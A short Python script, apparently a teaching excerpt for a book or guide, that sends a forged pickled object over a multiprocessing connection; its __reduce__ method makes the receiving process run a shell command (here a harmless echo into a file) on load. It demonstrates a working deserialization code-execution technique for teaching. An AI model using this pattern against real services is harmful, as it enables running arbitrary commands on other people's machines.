"""Sends a message that is no data: who loads it, runs what it says."""

import os
import sys
from multiprocessing.connection import Client

host, port = sys.argv[1].split(":")


# ANCHOR: forged
class Forged:
    def __reduce__(self):
        return os.system, ("echo I run here > forged.txt",)


c = Client((host, int(port)), authkey=b"secret password")
c.send(Forged())
# ANCHOR_END: forged
try:
    print("answered", c.recv())
except EOFError:
    print("The other end has closed.")
